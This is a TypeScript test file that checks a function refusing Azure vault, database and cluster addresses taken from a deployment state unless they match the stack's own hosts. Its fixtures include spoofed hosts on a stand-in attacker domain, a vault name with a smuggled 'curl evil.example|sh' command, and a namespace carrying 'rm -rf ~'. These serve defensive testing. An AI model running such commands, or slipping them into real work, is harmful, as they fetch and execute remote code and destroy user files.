import assert from "node:assert";
import type { Connections } from "../../../components/facts";
import { ownConnections } from "../../../components/facts/own";
import { existingHosts, ownHosts } from "../../../components/platform/ownHosts";
import { REFERENCE } from "../../support/existingPlatform";

const OWN = ownHosts({ application: "app", stack: "prod" }, "swedencentral");

const SAID: Connections = {
  namespace: "app",
  vault: { name: "kv-app-ab12cd", uri: "https://kv-app-ab12cd.vault.azure.net/" },
  database: { host: "psql-app-prod-ab12cd.postgres.database.azure.com", port: 5432, name: "app" },
  cluster: {
    server: "https://aks-app-prod-x1y2z3.hcp.swedencentral.azmk8s.io:443",
    authority: "Q0E=",
  },
};

const vault = (uri: string): Partial<Connections> => ({ vault: { ...SAID.vault, uri } });
const database = (host: string, port = 5432): Partial<Connections> => ({
  database: { ...SAID.database, host, port },
});
const cluster = (server: string): Partial<Connections> => ({
  cluster: { ...SAID.cluster, server },
});

/** What somebody who can write the state might say, and what it is about. */
const FOREIGN: readonly (readonly [string, Partial<Connections>])[] = [
  ["a host of somebody else", vault("https://evil.example/")],
  [
    "the stack's name before somebody's domain",
    vault("https://kv-app-ab12cd.vault.azure.net.evil.example/"),
  ],
  ["somebody's own vault in Azure", vault("https://kv-evil-ab12cd.vault.azure.net/")],
  ["a vault's name before an @", vault("https://kv-app-ab12cd.vault.azure.net@evil.example/")],
  ["no TLS", vault("http://kv-app-ab12cd.vault.azure.net/")],
  ["another port", vault("https://kv-app-ab12cd.vault.azure.net:8443/")],
  ["no address at all", vault("kv-app-ab12cd")],
  ["a name that is a command", { vault: { ...SAID.vault, name: "kv;curl evil.example|sh" } }],
  ["a database of somebody else", database("evil.example")],
  ["the database of another stack", database("psql-app-dev-ab12cd.postgres.database.azure.com")],
  ["another port of the database", database(SAID.database.host, 22)],
  ["a cluster of somebody else", cluster("https://evil.example")],
  ["a cluster of another stack", cluster("https://aks-app-dev-x1.hcp.swedencentral.azmk8s.io:443")],
  ["a cluster in another region", cluster("https://aks-app-prod-x1.hcp.westus.azmk8s.io:443")],
];

describe("where a state says that a stack's places are", () => {
  it("is believed where the names are those that the program gives", () => {
    assert.deepStrictEqual(ownConnections(SAID, OWN), { connections: SAID, foreign: {} });
  });

  it("is believed of a private cluster, which has a zone of its own", () => {
    const id = "0a1b2c3d-0000-0000-0000-000000000000";
    const said = cluster(`https://aks-app-prod-x1.${id}.privatelink.swedencentral.azmk8s.io:443`);
    assert.deepStrictEqual(ownConnections(said, OWN), { connections: said, foreign: {} });
  });

  it("is believed of this machine, where a tunnel may end: nothing leaves it", () => {
    const said = { ...vault("https://127.1.2.3/"), ...database("127.1.2.4", 15432) };
    assert.deepStrictEqual(ownConnections(said, OWN).foreign, {});
  });

  for (const [what, said] of FOREIGN) {
    it(`is not gone to where it is ${what}`, () => {
      const [place] = Object.keys(said) as (keyof typeof OWN)[];
      const { connections, foreign } = ownConnections({ ...SAID, ...said }, OWN);
      assert.deepStrictEqual(Object.keys(foreign), [place]);
      assert.match(
        foreign[place!]!,
        /^the state (gives its address as|names it) .*somebody has written (the )?state/,
      );
      assert.strictEqual(connections[place!], undefined);
    });
  }

  it("gives no namespace to commands that is none", () => {
    const { connections } = ownConnections({ ...SAID, namespace: "app; rm -rf ~" }, OWN);
    assert.deepStrictEqual(Object.keys(connections), ["vault", "database", "cluster"]);
  });

  it("follows names of stacks that Azure does not allow", () => {
    const own = ownHosts({ application: "app", stack: "dev.EU" }, "swedencentral");
    const [, digest] = /dev-eu-([0-9a-f]{6})/.exec(own.database.source) ?? [];
    const host = `psql-app-dev-eu-${digest}-ab12cd.postgres.database.azure.com`;
    assert.deepStrictEqual(ownConnections(database(host), own).foreign, {});
  });

  it("are on a platform that is there what the stack's settings say, to the letter", () => {
    const own = existingHosts(REFERENCE);
    for (const [place, host] of [
      ["vault", "kv-shared.vault.azure.net"],
      ["database", "psql-shared.postgres.database.azure.com"],
      ["cluster", REFERENCE.clusterHost],
    ] as const) {
      assert.match(host, own[place]);
      for (const other of [`x${host}`, `${host}.example.com`, host.replace(".", "x")]) {
        assert.doesNotMatch(other, own[place]);
      }
    }
  });
});
